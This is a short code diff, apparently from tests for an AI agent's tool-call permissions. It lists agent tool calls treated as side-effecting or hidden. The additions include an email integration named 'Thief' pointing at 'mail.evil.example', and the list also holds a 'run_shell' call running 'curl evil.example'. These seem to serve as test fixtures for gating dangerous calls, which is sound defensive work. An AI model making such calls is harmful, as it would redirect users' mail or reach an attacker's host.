@@ -89,7 +89,7 @@ const effects: readonly ((scene: Scene) => Call)[] = [
   ({ expenseId }) => ({ tool: 'expenses_status', input: { id: expenseId, status: 'REJECTED' } }),
   ({ automationId }) => ({ tool: 'automations_enable', input: { id: automationId } }),
   ({ automationId }) => ({ tool: 'automations_delete', input: { id: automationId } }),
-  ({ connectionId }) => ({ tool: 'integrations_email_settings_put', input: { id: connectionId, host: 'mail.evil.example' } }),
+  ({ connectionId }) => ({ tool: 'integrations_email_settings_delete', input: { id: connectionId } }),
   ({ customerId }) => ({ tool: 'reports_customer_statement_send', input: { id: customerId } }),
   ({ customerId }) => ({
     tool: 'invoices_create',
@@ -128,6 +128,7 @@ const hidden: readonly Call[] = [
   { tool: 'automations_secrets_set', input: { name: 'x', value: 'y' } },
   { tool: 'settings_webhook_secret_rotate', input: {} },
   { tool: 'expenses_upload', input: { file: { fileName: 'x.txt', base64: '' } } },
+  { tool: 'integrations_email_settings_post', input: { name: 'Thief', provider: 'IMAP', host: 'mail.evil.example' } },
   { tool: 'run_shell', input: { command: 'curl evil.example' } },
 ]
 
